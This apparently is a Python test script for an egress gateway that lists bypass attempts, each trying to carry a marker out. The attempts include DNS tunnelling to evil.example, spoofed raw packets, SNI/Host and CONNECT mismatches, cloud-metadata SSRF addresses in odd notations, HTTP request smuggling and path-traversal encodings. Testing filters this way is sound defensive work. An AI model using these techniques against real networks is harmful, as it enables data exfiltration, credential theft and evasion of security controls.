#!/usr/bin/env python3
"""The ways round the gate, each as an attempt to get a mark out.

usage: escape_attempts.py KIND           prints a JSON line for each attempt

An attempt is a generator: what it yields says how each of its variants ended,
as the client sees it. Whether the mark got out is judged outside, by
escape_test.py. KIND is one of escape_gate.GATES; in `free`, which nobody
captures, each attempt shall arrive, but those with a reason why it cannot.
"""
import concurrent.futures
import ctypes
import json
import os
import socket
import struct
import subprocess
import sys
import time

import escape_gate
from client import Wire
from escape_gate import GOOD, TO4, TO6, TRAP, Cut, Gate, Refused, echo, \
    extension, hello, ipv4, ipv6, question, record, server_names, syn, udp

EVIL, SECRET, PASS, PATHS = \
    "evil.example", "secret.test", "pass.example", "paths.example"
METADATA = ("169.254.169.254", "fd00:ec2::254", "100.100.100.200",
            "168.63.129.16")
ODD = ("127.1", "2130706433", "0x7f000001", "0177.0.0.1",
       "[::ffff:127.0.0.1]", "[64:ff9b::a9fe:a9fe]", "[2002:7f00:1::]")
JOBS = 8
ERRORS_S = 3.6                            # a neighbour is looked for for 3 s
NO_PROXY = "there is no proxy to ask"
CAPTURED = ("free", "run", "appliance", "attach")

ATTEMPTS = []


class Attempt:
    def __init__(self, group, what, function, no, free):
        self.group, self.what, self.function = group, what, function
        self.no = no                      # {kind: why it does not apply}
        self.free = free                  # why it cannot arrive in `free`


def attempt(group, what, free=None, **no):
    def add(function):
        ATTEMPTS.append(Attempt(group, what, function, no, free))
        return function
    return add


def proxied(group, what):
    """An attempt that only a client of the proxy can make."""
    return attempt(group, what, NO_PROXY, **dict.fromkeys(
        CAPTURED[1:], "no proxy"))


# -- capture -------------------------------------------------------------------

CAPTURE = "Capture"


@attempt(CAPTURE, "other TCP ports, IPv4")
def ports(g):
    yield from g.knock([(TO4, p) for p in (21, 22, 25, 444, 853, 5432, 8443,
                                           65535)])


@attempt(CAPTURE, "other TCP ports, IPv6")
def ports6(g):
    yield from g.knock([(TO6, p) for p in (22, 80, 443, 853, 65535)])


@attempt(CAPTURE, "what is no protocol, at ports of all kinds")
def babble(g):
    yield from g.knock([(a, p) for a in (TO4, TO6, TRAP) for p in (
        22, 80, 443, 9418)], b"\xff\xfe" + g.mark.encode() + b"\r\n\r\n")


@attempt(CAPTURE, "v4-mapped addresses")
def mapped(g):
    yield from g.knock([(f"::ffff:{TO4}", p) for p in (22, 80, 443)])


@attempt(CAPTURE, "link-local addresses, with their zone")
def link_local(g):
    zone = socket.if_nametoindex(g.device)
    yield from g.knock([("fe80::1", p, 0, zone) for p in (80, 443)])
    yield from g.datagrams([("fe80::1", 443, 0, zone), ("ff02::1", 9, 0, zone)])


@attempt(CAPTURE, "UDP, QUIC's port and others, IPv4 and IPv6")
def datagrams(g):
    yield from g.datagrams([(a, p) for a in (TO4, TO6) for p in (
        9, 53, 123, 443, 853, 4433, 65535)])


@attempt(CAPTURE, "UDP in fragments")
def fragments(g):
    yield from g.datagrams([(TO4, 443), (TO6, 443)], g.mark.encode() * 300)


@attempt(CAPTURE, "UDP to neighbours, broadcast and multicast")
def neighbours(g):
    zone = socket.if_nametoindex(g.device)
    yield from g.datagrams([(g.hop, 443), (g.near, 443), (g.hop6, 443),
                            ("255.255.255.255", 9), ("224.0.0.251", 5353),
                            ("ff02::fb", 5353, 0, zone)])


@attempt(CAPTURE, "ICMP and ICMPv6 echo")
def ping(g):
    body = g.mark.encode()
    yield g.raw(TO4, 1, echo(4, body))
    yield g.raw(TO6, 58, echo(6, body, g.own(6), TO6))
    for family, protocol, address in ((socket.AF_INET, 1, TO4),
                                      (socket.AF_INET6, 58, TO6)):
        try:
            with socket.socket(family, socket.SOCK_DGRAM, protocol) as sock:
                sock.sendto(echo(4 if protocol == 1 else 6, body),
                            (address, 0))
            yield "dropped"
        except OSError as error:
            yield escape_gate.word(error)


@attempt(CAPTURE, "other protocols: SCTP, GRE, IPIP, ESP, DCCP …")
def protocols(g):
    for number in (4, 33, 41, 47, 50, 51, 132, 136, 254):
        yield g.raw(TO4, number, b"\0" * 8 + g.mark.encode())
        yield g.raw(TO6, number, b"\0" * 8 + g.mark.encode())


@attempt(CAPTURE, "raw sockets with a header of one's own")
def raw(g):
    own, body = g.own(), g.mark.encode()
    yield g.raw(TO4, 0, ipv4(own, TO4, 17, udp(own, TO4, 443, body)), True)
    yield g.raw(TO4, 0, ipv4(own, TO4, 6, syn(own, TO4, 444, body)), True)
    yield g.raw(TO4, 0, ipv4(own, TO4, 1, echo(4, body)), True)
    own = g.own(6)
    yield g.raw(TO6, 0, ipv6(own, TO6, 17, udp(own, TO6, 443, body)), True)
    yield g.raw(TO6, 0, ipv6(own, TO6, 6, syn(own, TO6, 444, body)), True)


@attempt(CAPTURE, "frames, past all of IP (packet sockets)")
def frames(g):
    own, body = g.own(), g.mark.encode()
    for protocol, packet in ((17, udp(own, TO4, 443, body)),
                             (17, udp(own, TO4, 53, body)),
                             (6, syn(own, TO4, 444, body)),
                             (1, echo(4, body))):
        yield g.frame(ipv4(own, TO4, protocol, packet))
    own = g.own(6)
    yield g.frame(ipv6(own, TO6, 17, udp(own, TO6, 443, body)), 0x86dd)
    yield g.frame(ipv6(own, TO6, 58, echo(6, body, own, TO6)), 0x86dd)
    yield g.frame(body * 4, 0x88b5)


@attempt(CAPTURE, "neighbour discovery as a carrier")
def discovery(g):
    own, body = g.own(6), g.mark.encode()
    for kind in (133, 134, 135, 136, 137):
        packet = escape_gate.summed(own, TO6, 58, struct.pack(
            "!BBHI", kind, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, TO6)
            + body, 2)
        yield g.raw(TO6, 58, packet)
        yield g.frame(ipv6(own, TO6, 58, packet), 0x86dd)


@attempt(CAPTURE, "errors of a connection as a carrier (ICMP unreachable)")
def errors(g):
    own, body = g.own(), g.mark.encode()
    inner = ipv4(TO4, own, 17, udp(TO4, own, 53, b""))
    packet = struct.pack("!BBHI", 3, 3, 0, 0) + inner + body
    packet = packet[:2] + struct.pack(
        "!H", escape_gate.checksum(packet)) + packet[4:]
    yield g.raw(TO4, 1, packet)
    yield g.frame(ipv4(own, TO4, 1, packet))


@attempt(CAPTURE, "a socket bound to the device (SO_BINDTODEVICE)")
def bound(g):
    def setup(sock):
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE,
                        g.device.encode())
    yield from g.knock([(TO4, 444), (TO6, 444)], setup=setup)
    yield from g.datagrams([(TO4, 443), (TO6, 443), (g.hop, 443)],
                           setup=setup)


@attempt(CAPTURE, "the gateway's own packet mark (SO_MARK)")
def marked(g):
    def setup(sock):
        sock.setsockopt(socket.SOL_SOCKET, 36, 0x7053)
    yield from g.knock([(TO4, 444), (TO6, 444)], setup=setup)
    yield from g.datagrams([(TO4, 443), (TO6, 443)], setup=setup)


@attempt(CAPTURE, "a foreign source address (IP_TRANSPARENT, IP_FREEBIND)")
def foreign(g):
    def setup(sock):
        sock.setsockopt(socket.SOL_IP, 15, 1)
        if g.kind != "run":
            sock.setsockopt(socket.SOL_IP, 19, 1)
        sock.bind((g.near, 0))
    yield from g.datagrams([(TO4, 443), (TO4, 123)], setup=setup)


@attempt(CAPTURE, "a spoofed source: a neighbour's, the gateway's, the world's")
def spoofed(g):
    body = g.mark.encode()
    for source in (g.near, g.hop, "11.0.0.9", "11.0.0.1", "127.0.0.1",
                   "10.7.0.2", "0.0.0.0"):
        for protocol, packet in ((17, udp(source, TO4, 443, body)),
                                 (17, udp(source, TO4, 53, body)),
                                 (6, syn(source, TO4, 444, body))):
            yield g.raw(TO4, 0, ipv4(source, TO4, protocol, packet), True)
            yield g.frame(ipv4(source, TO4, protocol, packet))
    for source in (g.hop6, "2600:11::9", "::1", "fe80::9"):
        yield g.frame(ipv6(source, TO6, 17, udp(source, TO6, 443, body)),
                      0x86dd)


@attempt(CAPTURE, "answers to a spoofed source that is nobody's, and the "
         "errors about them")
def unanswered(g):
    name = question(f"{g.mark}.{EVIL}")
    for to in (TO4, "11.0.0.53"):
        for packet in (ipv4(g.near, to, 17, udp(g.near, to, 53, name)),
                       ipv4(g.near, to, 6, syn(g.near, to, 445))):
            yield g.raw(to, 0, packet, True)
            yield g.frame(packet)
    yield g.frame(ipv6(g.near6, TO6, 17, udp(g.near6, TO6, 53, name)), 0x86dd)
    yield g.frame(ipv6(g.near6, TO6, 6, syn(g.near6, TO6, 445)), 0x86dd)
    time.sleep(ERRORS_S)


@attempt(CAPTURE, "fragments that are never whole, and the errors about them")
def never_whole(g):
    body = udp(TO4, g.hop, 443, g.mark.encode() * 8)
    body += b"\0" * (-len(body) % 8)
    for to in (g.hop, TO4):
        packet = ipv4(TO4, to, 17, body, 0x2000)
        yield g.raw(to, 0, packet, True)
        yield g.frame(packet)
    for to in (g.hop6, TO6):
        yield g.frame(ipv6("2600:11::9", to, 44, struct.pack(
            "!BBHI", 17, 0, 1, 7) + body), 0x86dd)
    time.sleep(ERRORS_S)


@attempt(CAPTURE, "IPv6 options that nobody knows, and the errors about them")
def options(g):
    for to in (g.hop6, TO6):
        for source in (TO6, "2600:11::9", g.near6, g.own(6)):
            for option in (0x9e, 0xde):
                body = struct.pack("!BBBB4x", 17, 0, option, 4) \
                    + udp(source, to, 443, g.mark.encode())
                yield g.frame(ipv6(source, to, 0, body), 0x86dd)
                yield g.frame(ipv6(source, to, 60, body), 0x86dd)
                yield g.raw(to, 0, ipv6(source, to, 0, body), True)


@attempt(CAPTURE, "rules flushed, routes changed, from inside")
def flushed(g):
    for argv in (("nft", "flush", "ruleset"), ("ip", "route", "flush", "cache"),
                 ("ip", "route", "del", "local", "default", "dev", "lo"),
                 ("ip", "-6", "route", "del", "local", "default", "dev",
                  "lo")):
        done = subprocess.run(argv, check=False, stderr=subprocess.PIPE,
                              stdout=subprocess.DEVNULL)
        yield "EPERM" if b"not permitted" in done.stderr else ""
    yield from g.knock([(TO4, 444), (TO6, 444)])
    yield from g.datagrams([(TO4, 443), (TO6, 443)])


@attempt(CAPTURE, "a network namespace of one's own",
         "a new namespace leads nowhere for anybody")
def namespace(g):
    r, w = os.pipe()
    pid = os.fork()
    if not pid:
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.unshare(0x10000000 | 0x40000000):
            end = escape_gate.word(OSError(ctypes.get_errno(), ""))
        else:
            end = " ".join(set(g.knock([(TO4, 80), (TO6, 80)])))
        os.write(w, end.encode())
        os._exit(0)
    os.close(w)
    os.waitpid(pid, 0)
    yield os.read(r, 100).decode()


@attempt(CAPTURE, "the gateway's listeners by their number, and its host")
def straight(g):
    yield from g.knock([(g.hop, p) for p in (22, 53, 80, 443, 8443, 61080,
                                             61053)]
                       + [(g.hop6, 443), (g.hop6, 61080), ("11.0.0.1", 443),
                          ("192.0.2.1", 61080), ("2001:db8::1", 61080)])


@attempt(CAPTURE, "through the gateway to itself and its host",
         "there is no gateway")
def itself(g):
    for host in ("127.0.0.1", "localhost", "[::1]", "11.0.0.1", g.hop,
                 "0.0.0.0", "127.0.0.1:61080", f"{g.hop}:3128"):
        yield from g.through(g.marked(host), None, 80)
    yield g.by_name("own.test", g.marked("own.test"))
    yield g.by_name("loop.test", g.marked("loop.test"))


@attempt(CAPTURE, "the portal's name, as a way to other pages",
         "there is no gateway")
def portal(g):
    for path in ("/", "/../", "/api", "//evil.example/", "/policy/../x"):
        yield from g.through(g.request(
            f"{path}{g.mark}", "penstock.internal"), None, 80)
    yield from g.through(
        g.marked(EVIL), "penstock.internal")


@proxied(CAPTURE, "CONNECT and SOCKS5 to the gateway and its host")
def connect_self(g):
    for host in (g.hop, "127.0.0.1", "localhost", "11.0.0.1", "own.test",
                 "loop.test", "0.0.0.0"):
        for port in (3128, 443, 22):
            try:
                yield g.say(g.connect(f"{host}:{port}"), g.marked(host))
            except Refused as end:
                yield str(end)
    for way in (lambda: g.socks("127.0.0.1", 443), lambda: g.connect("[::1]:443"),
                lambda: g.connect(f"{TO4}:22"), lambda: g.socks(TRAP, 80)):
        try:
            yield g.say(way(), g.marked())
        except Refused as end:
            yield str(end)


# -- names ---------------------------------------------------------------------

NAMES = "Names"


@attempt(NAMES, "DNS as a carrier: names that no rule knows")
def tunnel(g):
    name = f"{g.mark}.data.{EVIL}"
    for kind in (1, 28, 16, 10, 5, 65, 255):
        yield from ask(g, name, kind, (g.dns,))
    yield from ask(g, name, 1, ("8.8.8.8", "11.0.0.53", TO6))


@attempt(NAMES, "DNS as a carrier: names below an allowed wildcard")
def wildcard(g):
    for kind in (1, 28, 16, 65):
        yield from ask(g, f"{g.mark}.many.test", kind, (g.dns, "11.0.0.53"))


@attempt(NAMES, "DNS over TCP, and over TLS")
def streams(g):
    packet = question(f"{g.mark}.{EVIL}")
    packet = struct.pack("!H", len(packet)) + packet
    for address in ("11.0.0.53", "8.8.8.8", TO4, TO6):
        for port in (53, 853):
            try:
                with g.tcp(address, port, 1) as sock:
                    sock.sendall(packet)
                    answer = sock.recv(500)
                    yield escape_gate.rcode(answer[2:]) \
                        if len(answer) > 14 else "closed"
            except (OSError, Refused) as end:
                yield str(end) if isinstance(end, Refused) \
                    else escape_gate.word(end)


def ask(g, name, kind, servers):
    for server in servers:
        with socket.socket(escape_gate.family(server),
                           socket.SOCK_DGRAM) as sock:
            sock.settimeout(0.7)
            try:
                sock.sendto(question(name, kind), (server, 53))
                yield escape_gate.rcode(sock.recv(2000))
            except OSError as error:
                yield escape_gate.word(error)


@attempt(NAMES, "SNI allowed, Host another")
def sni_host(g):
    for host in (SECRET, EVIL, TRAP):
        yield from g.through(g.marked(host), every=True)


@attempt(NAMES, "SNI another, Host allowed")
def host_sni(g):
    for name in (SECRET, EVIL):
        yield from g.through(g.marked(GOOD), name)


@attempt(NAMES, "SNI and Host both of a denied name")
def denied(g):
    for name in (SECRET, EVIL):
        yield from g.through(g.marked(name), name, every=True)


@attempt(NAMES, "SNI allowed, :authority another; :authority and host")
def authority(g):
    for fields in (fields2(g, SECRET), fields2(g, EVIL),
                   fields2(g) + [("host", SECRET)],
                   fields2(g, SECRET) + [("host", GOOD)]):
        yield from streams2(g, fields)


@attempt(NAMES, "an address that is not the name's")
def dialled(g):
    """The name counts: to the address that was dialled nothing goes."""
    try:
        sock = g.dial(TRAP)
        yield g.say(g.tls(sock, GOOD), g.request(f"/{g.fine}"))
        yield g.say(g.dial(TRAP, 80), g.request(f"/{g.fine}"))
    except Refused as end:
        yield str(end)


@proxied(NAMES, "CONNECT's target ≠ SNI")
def connect_sni(g):
    for name in (SECRET, EVIL, "other.test"):
        for way in (lambda: g.connect(f"{GOOD}:443"), lambda: g.socks(GOOD, 443)):
            try:
                yield g.say(g.tls(way(), name), g.marked(name))
            except Refused as end:
                yield str(end)


@proxied(NAMES, "CONNECT's target ≠ Host, in clear; CONNECT in CONNECT")
def connect_host(g):
    for octets in (g.marked(SECRET), g.marked("other.test"),
                   f"CONNECT {SECRET}:443 HTTP/1.1\r\nHost: {SECRET}:443"
                   "\r\n\r\n" + g.marked(SECRET)):
        yield g.say(g.connect(f"{GOOD}:80"), octets, 2)
        yield g.say(g.tls(g.connect(f"{GOOD}:443"), GOOD), octets, 2)


@proxied(NAMES, "CONNECT with two names, or none")
def connect_names(g):
    for target in (f"{GOOD}:443, {SECRET}:443", f"{GOOD}@{EVIL}:443", "",
                   f"{EVIL}:443#{GOOD}", f"{GOOD}:443:80", f"//{EVIL}:443",
                   f"{EVIL}\x00.test:443", "127.1:443", "2130706433:443",
                   "0x7f000001:443", "[::ffff:127.0.0.1]:443",
                   "[64:ff9b::a9fe:a9fe]:80", "169.254.169.254:80"):
        try:
            yield g.say(g.connect(target), g.marked())
        except (Refused, IndexError) as end:
            yield str(end) if isinstance(end, Refused) else "closed"
    octets = f"CONNECT {GOOD}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n\r\n"
    yield g.say(g.tcp(*g.proxy), octets + g.marked(EVIL), 2)


@proxied(NAMES, "absolute targets at the proxy: each request, and its Host")
def absolute_proxy(g):
    for target, host in ((SECRET, SECRET), (SECRET, GOOD), (GOOD, SECRET),
                         (EVIL, EVIL), (f"{GOOD}@{EVIL}", GOOD),
                         *((m if ":" not in m else f"[{m}]",) * 2
                           for m in METADATA)):
        yield g.say(g.tcp(*g.proxy), g.request(f"http://{GOOD}/first")
                    + g.request(f"http://{target}/{g.mark}", host), 2)


@attempt(NAMES, "the second request of a connection, for another host")
def second(g):
    for host in (SECRET, EVIL):
        yield from g.through(g.request("/first") + g.marked(host), answers=2)
        yield from g.through(g.request("/first") + g.marked(host), None, 80,
                             answers=2)


@attempt(NAMES, "the second stream of a connection, for another host")
def second2(g):
    yield from streams2(g, [(n, v.replace(g.mark, "first"))
                            for n, v in fields2(g)], fields2(g, SECRET))


@attempt(NAMES, "an absolute target ≠ Host, and other schemes")
def absolute(g):
    for target, host in ((f"https://{SECRET}", GOOD),
                         (f"https://{GOOD}", SECRET),
                         (f"https://{EVIL}", EVIL), (f"http://{SECRET}", GOOD),
                         (f"https://{GOOD}@{EVIL}", GOOD),
                         (f"https://{GOOD}:444", GOOD)):
        yield from g.through(g.request(f"{target}/{g.mark}", host))
    for target in (f"http://{SECRET}", f"https://{SECRET}", f"ftp://{GOOD}",
                   f"http://{GOOD}:22"):
        yield from g.through(g.request(f"{target}/{g.mark}"), None, 80)


@attempt(NAMES, "two Hosts, an empty one, none")
def hosts(g):
    for more in (f"Host: {SECRET}\r\n", f"Host: {GOOD}\r\n",
                 f"host : {SECRET}\r\n", f"Host:{SECRET}\r\n"):
        yield from g.through(g.marked(GOOD, more))
    for host in ("", None, " "):
        yield from g.through(g.marked(host))
        yield from g.through(g.marked(host), None, 80)


@attempt(NAMES, "other spellings of a denied name: case, dot, port")
def spellings(g):
    for host in ("SECRET.TEST", "secret.test.", "secret.test:443",
                 "Secret.Test.:443", "secret.test:0443"):
        yield from g.through(g.marked(host), SECRET)
        yield from g.through(g.marked(host.partition(":")[0]), None, 80)
    for name in ("SECRET.TEST", "secret.test."):
        yield from g.through(g.marked(SECRET), name)


@attempt(NAMES, "what is no name: brackets, IDN dots, NUL, long labels …")
def no_names(g):
    for host in (f"[{GOOD}]", f"{GOOD}@{EVIL}", f"{EVIL}#{GOOD}",
                 f"{EVIL}/{GOOD}", f"{EVIL},{GOOD}", f"{EVIL} {GOOD}",
                 "secret。test".encode().decode("latin-1"),
                 "secret．test".encode().decode("latin-1"),
                 f"{EVIL}\0.test", f"{EVIL}%00.test", f"{EVIL}\\.test",
                 "good..test", f"{GOOD}:444", f"{GOOD}:", "a" * 64 + ".test",
                 f"_{GOOD}"):
        yield from g.through(g.marked(host))
        yield from g.through(g.marked(host), None, 80)


@attempt(NAMES, "no SNI")
def no_sni(g):
    for host in (SECRET, EVIL, TRAP):
        for door in g.doors():
            try:
                yield g.say(g.tls(door(), None), g.marked(host))
            except Refused as end:
                yield str(end)


@attempt(NAMES, "SNI an address; two SNIs; SNI that is no name")
def odd_sni(g):
    for more in ((server_names(b"11.0.0.4"),), (server_names(b"::1"),),
                 (server_names(PASS.encode(), SECRET.encode()),),
                 (server_names(SECRET.encode(), PASS.encode()),),
                 (server_names(PASS.encode()), server_names(SECRET.encode())),
                 (server_names(PASS.encode() + b"\0.evil.example"),),
                 (server_names(b""),), (extension(0, b""),),
                 (server_names(b"a" * 64 + b".test"),)):
        yield from g.flight(hello(g.mark, *more))


@attempt(NAMES, "ECH and GREASE ECH around a denied name")
def ech(g):
    grease = extension(0xfe0d, b"\0\0\1\0\1\x07\0\x20" + b"k" * 32 + b"\0\x90"
                       + b"p" * 144)
    for name in (SECRET, EVIL):
        yield from g.flight(hello(g.mark, server_names(name.encode()), grease))
        yield from g.flight(hello(g.mark, server_names(name.encode()),
                                  extension(0xfe0d, b"\1")))


def by_octet(octets):
    return [octets[i:i + 1] for i in range(len(octets))]


def three_records(octets):
    body = octets[5:]
    third = len(body) // 3
    return [record(body[:third]) + record(body[third:2 * third])
            + record(body[2 * third:])]


def ten_records(octets):
    body = octets[5:]
    return [record(body[i:i + 9]) for i in range(0, len(body), 9)]


def hello_as(what, cut, alpn=("http/1.1",)):
    @attempt(NAMES, f"ClientHello of a denied name, {what}")
    def pieces(g):
        for name in (SECRET, EVIL):
            for door in g.doors(443, name):
                try:
                    with door() as sock:
                        yield Cut(sock, name, cut, alpn).ask(g.marked(name))
                except (Refused, OSError) as end:
                    yield str(end) if isinstance(end, Refused) \
                        else escape_gate.word(end)
    return pieces


hello_as("one octet a segment", by_octet)
hello_as("in three records", three_records)
hello_as("in records of nine octets", ten_records)
hello_as("of 16 KB", lambda octets: [octets],
         ("http/1.1", *(chr(97 + n % 26) * 250 for n in range(60))))


@attempt(NAMES, "DNS rebinding, TTL 0: public first, then private")
def rebinding(g):
    name = f"moves-{g.kind}.test"
    for _ in range(6):
        yield g.by_name(name, g.request(f"/close/{g.fine}", name))


@attempt(NAMES, "a public name with a private or a mixed answer")
def private(g):
    for name in ("private.test", "mixed.test", "mapped.test"):
        for _ in range(4):
            yield g.by_name(name, g.request(f"/close/{g.fine}", name))


@attempt(NAMES, "a public name at loopback, NAT64, 6to4")
def embedded(g):
    for name in ("loop.test", "nat64.test", "sixtofour.test", "linklocal.test",
                 "zero.test", "ula.test", "cgnat.test"):
        yield g.by_name(name, g.request(f"/{g.fine}", name))
        yield g.by_name(name, g.request(f"/{g.fine}", name), 80)


@attempt(NAMES, "metadata services, by address")
def metadata(g):
    for address in METADATA:
        host = f"[{address}]" if ":" in address else address
        yield from g.knock([(address, 80), (address, 443)],
                           g.marked(host).encode())


@attempt(NAMES, "metadata services, by a name that an allowed wildcard has")
def metadata_names(g):
    for n in range(len(METADATA)):
        yield g.by_name(f"meta{n}.test", g.request(f"/{g.fine}",
                                                   f"meta{n}.test"))


@attempt(NAMES, "odd notations of addresses, as Host and in the target")
def notations(g):
    for host in ODD:
        yield from g.through(g.marked(host))
        yield from g.through(g.marked(host), None, 80)
        yield from g.through(g.request(
            f"http://{host}/{g.mark}", host), None, 80)


@attempt(NAMES, "odd notations of addresses, dialled")
def notations_dialled(g):
    yield from g.knock([(a, 80) for a in (
        "64:ff9b::a9fe:a9fe", "2002:7f00:1::", "::ffff:169.254.169.254",
        "::ffff:100.100.100.200")])


# -- HTTP/1 --------------------------------------------------------------------

H1 = "HTTP/1"


def inner(g):
    """A request that is denied, and bears the mark."""
    return g.request(f"/denied/{g.mark}")


def posts(g, pairs):
    """Bodies whose end two readers see in two places."""
    for fields, body in pairs:
        yield from g.through(
            g.request("/p", more=fields, method="POST") + body, answers=2)


def chunked(g):
    return "0\r\n\r\n" + inner(g)


@attempt(H1, "Content-Length and Transfer-Encoding")
def cl_te(g):
    both = chunked(g)
    for fields in (f"Content-Length: {len(both)}\r\nTransfer-Encoding: "
                   "chunked\r\n", "Transfer-Encoding: chunked\r\n"
                   f"Content-Length: {len(both)}\r\n"):
        yield from posts(g, [(fields, both)])


@attempt(H1, "duplicate Content-Length, the same and different")
def two_lengths(g):
    body = inner(g)
    yield from posts(g, [
        (f"Content-Length: 0\r\nContent-Length: {len(body)}\r\n", body),
        (f"Content-Length: {len(body)}\r\nContent-Length: 0\r\n", body),
        ("Content-Length: 0\r\nContent-Length: 0\r\n", body),
        (f"Content-Length: 0, {len(body)}\r\n", body)])


@attempt(H1, "Content-Length +4, 4 2, 2^64 and such")
def lengths(g):
    yield from posts(g, [(f"Content-Length: {n}\r\n", inner(g)) for n in (
        "+0", "0 0", "-0", "0x0", "18446744073709551616", "0_0", "0\x0b")])


@attempt(H1, "Transfer-Encoding in disguise")
def codings(g):
    both = chunked(g)
    yield from posts(g, [
        (f"Content-Length: {len(both)}\r\n{te}\r\n", both) for te in (
            "Transfer-Encoding: xchunked", "Transfer-Encoding : chunked",
            "Transfer-Encoding: chunked, x", "Transfer_Encoding: chunked",
            "Transfer-Encoding:\x0bchunked", "X: y\rTransfer-Encoding: chunked",
            "X\nTransfer-Encoding: chunked", "Transfer-Encoding: ,chunked")])


@attempt(H1, "chunk sizes and extensions")
def chunks(g):
    yield from posts(g, [("Transfer-Encoding: chunked\r\n", f"{size}\r\n"
                          + inner(g)) for size in (
        "0;\n", "0\n", "0 \r\n", "0x0\r\n", "-0\r\n", "0;a=\"\r\n\r\n\"\r\n",
        "10000000000000000\r\n", "1\r\naX0\r\n", "00000000000000000\r\n")])


@attempt(H1, "bare LF, obs-fold, a space before the colon")
def lines(g):
    end = inner(g)
    for octets in (f"GET /p HTTP/1.1\nHost: {GOOD}\n\n" + end,
                   g.request("/p", more="X: y\r\n z\r\n") + end,
                   g.request("/p", more="X : y\r\n") + end,
                   g.request("/p", more=f"X: y\n\n{end}\r\n"),
                   g.request("/p", more=f"X: y\r\r\n{end}\r\n")):
        yield from g.through(octets, answers=2)


@attempt(H1, "trailers that name Host, Content-Length, Transfer-Encoding")
def trailers(g):
    yield from posts(g, [("Transfer-Encoding: chunked\r\n",
                          f"0\r\n{t}\r\nX-{g.mark}: y\r\n\r\n") for t in (
        f"Host: {SECRET}", "Content-Length: 9", "Transfer-Encoding: chunked")])


@attempt(H1, "a body on GET, then a pipelined request")
def get_body(g):
    body = "x" * 10
    yield from g.through(
        g.request("/p", more="Content-Length: 10\r\n") + body + inner(g),
        answers=2)


@attempt(H1, "requests in the body of one that is denied")
def drained(g):
    body = g.request(f"/{g.mark}") * 3
    for host in (GOOD, EVIL):
        yield from g.through(g.request(
            "/denied/x", host, f"Content-Length: {len(body)}\r\n", "POST")
            + body, answers=2)


@attempt(H1, "pipelined requests: each is judged")
def pipelined(g):
    yield from g.through((g.request("/p") + inner(g)) * 3, answers=6)


@attempt(H1, "in clear: the same rules")
def clear(g):
    yield from g.through(inner(g) + g.marked(SECRET) + g.marked(EVIL), None,
                         80, answers=3)


@attempt(H1, "Upgrade with a pipelined request, an origin that says 200")
def upgrade(g):
    for more in ("Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-"
                 "Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="
                 "\r\n", "Upgrade: x\r\nConnection: Upgrade\r\n"):
        yield from g.through(g.request("/p", more=more) + inner(g), answers=2)


@attempt(H1, "Upgrade: h2c, and HTTP/2 where HTTP/1 is expected")
def h2c(g):
    more = ("Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n"
            "HTTP2-Settings: AAMAAABkAAQAAP__\r\n")
    yield from g.through(g.request("/p", more=more) + inner(g), answers=2)
    from h2_wire import END_HEADERS, END_STREAM, HEADERS, PREFACE, SETTINGS, \
        block, frame
    octets = PREFACE + frame(SETTINGS, 0, 0) + frame(
        HEADERS, END_HEADERS | END_STREAM, 1, block(*fields2(g, SECRET)))
    yield from g.through(octets)
    yield from g.through(octets, None, 80)


# -- HTTP/2 --------------------------------------------------------------------

H2 = "HTTP/2"


def fields2(g, host=GOOD, path=None):
    return [(":method", "GET"), (":scheme", "https"), (":authority", host),
            (":path", path or f"/{g.mark}")]


def streams2(g, *requests, body=None):
    """What becomes of the last of these, on one connection."""
    from h2_wire import H2 as Client
    try:
        sock = g.tls(g.door()(), GOOD, "h2")
    except Refused as end:
        yield str(end)
        return
    sock.settimeout(WAIT2_S)
    with Client(wire=Wire(None, tls=False, sock=sock)) as h2:
        try:
            stream = [h2.request(f, body) for f in requests][-1]
            yield str(h2.outcome(stream))
        except Exception as error:        # an answer that is no HTTP/2
            yield escape_gate.word(error)


WAIT2_S = 2


@attempt(H2, "CR LF in values, :path and :authority")
def crlf(g):
    line = f"x\r\nX: {g.mark}"
    for fields in (fields2(g, path="/p") + [("x", line)],
                   fields2(g, path=f"/p HTTP/1.1\r\n{line}"),
                   fields2(g, f"{GOOD}\r\nX: {g.mark}", "/p"),
                   fields2(g, path="/p") + [(f"x: y\r\n{g.mark}", "1")],
                   fields2(g, path="/p") + [("cookie", line)]):
        yield from streams2(g, fields)


@attempt(H2, "late, duplicate and unknown pseudo-fields")
def pseudo(g):
    for more in ((":path", f"/denied/{g.mark}"), (":authority", SECRET),
                 (":x", g.mark), (":status", g.mark)):
        yield from streams2(g, fields2(g) + [("x", "y"), more])
        yield from streams2(g, fields2(g) + [more])


@attempt(H2, "content-length ≠ DATA, a request behind it")
def data2(g):
    for length in ("0", "1", "5000"):
        yield from streams2(g, fields2(g, path="/p")
                            + [("content-length", length)],
                            body=inner(g).encode())


@attempt(H2, "connection, te and transfer-encoding")
def hops(g):
    for field in (("connection", "close"), ("te", "gzip"),
                  ("transfer-encoding", "chunked"), ("upgrade", "h2c")):
        yield from streams2(g, fields2(g, path="/p") + [field],
                            body=chunked(g).encode())


@attempt(H2, "a request in :method, :path or a body, translated to HTTP/1")
def translated(g):
    end = f"GET /denied/{g.mark} HTTP/1.1"
    for n, value in ((0, end), (3, f"/p HTTP/1.1\r\n\r\n{end}"),
                     (1, f"https\r\n{end}"), (3, f"/p {end}")):
        fields = fields2(g, path="/p")
        fields[n] = (fields[n][0], value)
        yield from streams2(g, fields)


# -- paths ---------------------------------------------------------------------

PATH = "Paths"


def rooted(what, *paths):
    @attempt(PATH, what)
    def tries(g):
        for path in paths:
            yield from g.through(g.request(
                f"{path}?{g.mark}", PATHS), PATHS)
            yield from g.through(g.request(
                f"{path}/{g.mark}", PATHS), PATHS)
    return tries


rooted("dot segments, in any encoding", "/repos/x/../y", "/repos/x/%2e%2e/y",
       "/repos/x/%252e%252e/y", "/repos/x/.%2e/y", "/repos/x/..%2fy",
       "/repos/x%2f..%2fy", "/./y")
rooted("dot segments with parameters", "/repos/x/..;/y", "/repos/x/..;a=b/y",
       "/repos/x/%2e%2e;/y")
rooted("a host in the path", "//evil.example/b", "///repos/x", "//repos/x")
rooted("backslashes, raw and encoded", "/repos/x/..\\y", "/repos/x/..%5cy",
       "/repos\\x/y", "/repos/x/%5c..%5cy")
